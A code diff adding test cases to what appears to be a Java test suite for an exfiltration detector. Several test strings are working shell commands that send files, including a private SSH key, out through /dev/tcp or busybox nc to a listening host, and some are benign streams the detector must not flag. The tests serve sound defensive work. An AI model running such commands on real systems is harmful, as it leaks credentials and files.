@@ -80,6 +80,61 @@ class RealExfiltrationTest {
     }
 
     @ParameterizedTest
+    @CsvSource(delimiter = '~', textBlock = """
+                    cat $F/x > /dev/tcp/$A/$P; true~$F/x~false
+                    exec 3<>/dev/tcp/$A/$P; tar c $F >&3; true~$F~false
+                    (cat $F/.ssh/id_rsa; sleep 60; true) > /dev/tcp/$A/$P~$F/.ssh/id_rsa~true
+                    """)
+    void what_a_shell_lets_a_program_write_into_a_connection_is_told(String text, String from, boolean secret)
+            throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Files.writeString(Files.createDirectory(folder.resolve(".ssh")).resolve("id_rsa"), "x");
+            Process sends = host.start("bash", "-c", filled(text, server));
+            try (Socket _ = server.accept()) {
+                assertThat(host.below(
+                                        sends,
+                                        seen -> seen.relations().exfiltration().isPresent())
+                                .relations()
+                                .exfiltration()
+                                .orElseThrow())
+                        .satisfies(exfiltration -> {
+                            assertThat(exfiltration.from()).isEqualTo(from.replace("$F", folder.toString()));
+                            assertThat(exfiltration.secret().isPresent()).isEqualTo(secret);
+                            assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
+                        });
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "while sleep 1; do echo metric; done > /dev/tcp/$A/$P",
+                "exec 3<>/dev/tcp/$A/$P; while sleep 1; do echo metric >&3; done",
+                "(sleep 60; cat) > /dev/tcp/$A/$P"
+            })
+    void what_a_shell_says_itself_is_a_message(String text) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Process sends = host.start("bash", "-c", filled(text, server));
+            try (Socket _ = server.accept()) {
+                host.neverBelow(
+                        sends, "sleep", seen -> seen.relations().exfiltration().isPresent());
+            }
+        }
+    }
+
+    @Test
+    void a_file_is_told_though_somebody_else_holds_it_to_write_to_it() throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Process sends =
+                    host.start("bash", "-c", filled("sleep 60 >> $F/x & busybox nc $A $P < $F/x; true", server));
+            try (Socket _ = server.accept()) {
+                host.below(sends, seen -> seen.relations().exfiltration().isPresent());
+            }
+        }
+    }
+
+    @ParameterizedTest
     @ValueSource(
             strings = {
                 "curl -sT $K telnet://$A:$P",
@@ -109,6 +164,7 @@ class RealExfiltrationTest {
             strings = {
                 "while sleep 1; do echo metric; done | busybox nc $A $P",
                 "tail -f $F/x | busybox nc $A $P",
+                "mkfifo $F/f; busybox nc $A $P < $F/f | (while read -r l; do echo $l; done; sleep 60) > $F/f",
                 "tar c $F | (sleep 60; busybox nc $A $P)"
             })
     void a_script_or_a_log_is_not(String pipeline) throws IOException {
